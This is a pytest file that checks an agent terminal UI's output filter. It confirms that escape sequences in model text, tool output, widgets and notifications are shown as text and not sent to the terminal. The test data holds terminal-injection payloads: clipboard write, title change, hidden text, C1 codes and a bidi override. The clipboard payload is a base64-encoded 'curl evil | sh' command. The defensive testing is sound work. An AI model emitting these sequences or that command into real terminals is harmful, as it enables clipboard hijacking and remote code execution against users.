"""Pilot tests: escape sequences someone else wrote are shown, never written to the terminal.

A model reply, a file the agent read, a notification or any widget's text can hold ``ESC]52``
(clipboard write), ``ESC]0`` (window title), ``ESC[8m`` (hidden text), a C1 CSI (U+009B) or a
bidirectional override.  Textual strips only BEL/BS/VT/FF/CR, so the test looks at the bytes the
app would write to the terminal for the whole screen (the compositor's full update, rendered as
the driver writes it) and checks that none of these sequences is in them while the text around
them is.  Every check fails without the app's line filter (``agent_tui.ui.output_guard``).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from rich.segment import ControlType, Segment
from rich.style import Style
from textual.app import ComposeResult
from textual.color import Color
from textual.screen import Screen
from textual.widgets import DataTable, Label, Markdown, OptionList, Static, TextArea
from textual.widgets._toast import Toast

from agent_tui.ui.app import AgentApp
from agent_tui.ui.output_guard import GUARD
from agent_tui.ui.screens.item_view import ItemScreen
from agent_tui.ui.widgets.tool_panel import ToolCallPanel
from tests.support.fake_openai import FakeOpenAI, Reply

from .conftest import demo_app, ready, turn_done, wait_for

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
TITLE = "\x1b]0;pwned\x1b\\"
HIDE = "\x1b[8m"
C1_CSI = "\x9b2J"
C1_OSC = "\x9d0;c1title\x9c"
RLO = "\u202e"
EVIL = f"alpha {CLIPBOARD}beta {TITLE}gamma {HIDE}delta {C1_CSI} epsilon {C1_OSC} zeta {RLO}eta"
"""Visible words with every kind of sequence between them."""
ATTACKS = ("\x1b]52", "\x1b]0;", "\x1b[8m", "\x9b", "\x9d", "\x9c", "\u202e")


def terminal_output(app: AgentApp) -> str:
    """What the app's driver would write to redraw the whole screen now."""
    return app.screen._compositor.render_full_update().render_segments(app.console)


def assert_inert(out: str, *visible: str) -> None:
    for attack in ATTACKS:
        assert attack not in out, f"{attack!r} reached the terminal"
    for word in visible:
        assert word in out, f"{word!r} is not shown"


async def test_model_text_and_tool_output_are_shown_not_obeyed(fake_llm: FakeOpenAI, fake_app: AgentApp) -> None:
    (fake_app.options.workspace / "evil.txt").write_text(f"first line\n\tindented {EVIL}\nlast line\n")
    fake_llm.script(Reply.tool_call("read_file", {"path": "evil.txt"}),
                    Reply.text(f"The file says:\n\n- **bold** {EVIL}\n- done", chunk_size=4))
    async with fake_app.run_test(size=(160, 50)) as pilot:
        await ready(pilot)
        await pilot.press(*"read evil.txt", "enter")
        await turn_done(pilot)
        conversation = fake_app.main.conversation
        for panel in conversation.query(ToolCallPanel):
            panel.collapsed = False
        await pilot.pause()
        conversation.scroll_end(animate=False)
        await pilot.pause()
        out = terminal_output(fake_app)
        assert_inert(out, "The file says:", "bold", "alpha", "]52;c;Y3VybCBldmlsIHwgc2g=", "beta", "]0;pwned",
                     "gamma", "[8m", "delta", "epsilon", "zeta", "eta", "indented", "last line")
        assert "\x1b[1m" in out or "\x1b[1;" in out, "Markdown still renders (bold is styled)"

        engine = fake_app.controller.engine
        tool_item = next(i for i in engine.items.values() if i.role == "tool")
        await fake_app.push_screen(ItemScreen(tool_item, tool_item.content))
        await wait_for(pilot, lambda: isinstance(fake_app.screen, ItemScreen), "the item view")
        await pilot.pause()
        assert_inert(terminal_output(fake_app), "alpha", "beta", "zeta")


class EveryWidget(Screen[None]):
    """The widget kinds the UI shows other people's text in, all holding the same text."""

    def compose(self) -> ComposeResult:
        yield Static(EVIL, markup=False)
        yield Label(EVIL, markup=False)
        yield Markdown(f"# {EVIL}\n\n`{EVIL}`\n\n```\n{EVIL}\n```")
        yield TextArea(EVIL, read_only=True)
        yield DataTable()
        yield OptionList(EVIL)

    def on_mount(self) -> None:
        table = self.query_one(DataTable)
        table.add_columns("error")
        table.add_row(EVIL)
        self.border_title = EVIL


async def test_every_widget_kind_and_notifications(demo_workspace: Path) -> None:
    app = demo_app(demo_workspace)
    async with app.run_test(size=(200, 60), notifications=True) as pilot:
        await ready(pilot)
        app.notify(EVIL, title=EVIL, severity="error", timeout=60)
        await wait_for(pilot, lambda: app.screen.query(Toast), "the notification")
        await pilot.pause()
        assert_inert(terminal_output(app), "alpha", "zeta")
        await app.push_screen(EveryWidget())
        await pilot.pause()
        out = terminal_output(app)
        assert_inert(out, "alpha", "]52;c;", "[8m", "zeta")
        assert out.count("alpha") >= 6, "every widget shows the text"


def test_the_filter_keeps_widths_styles_and_controls() -> None:
    bold = Style(bold=True)
    linked = Style(link="https://example.com/\x1b]52;c;eA==\x07")
    move = Segment("\x1b[2;1H", None, [(ControlType.CURSOR_MOVE_TO, 0, 1)])  # Textual's own control, not text
    out: list[Any] = GUARD.apply([Segment(f"a{HIDE}b\tc{RLO}", bold), Segment("link", linked), move,
                                  Segment("plain", None)], Color(0, 0, 0))
    assert out[0] == Segment("a[8mbc", bold)
    assert out[1].text == "link" and not out[1].style.link
    assert out[2] is move and out[3].text == "plain"
    safe = [Segment("nothing to do", bold)]
    assert GUARD.apply(safe, Color(0, 0, 0))[0] is safe[0]
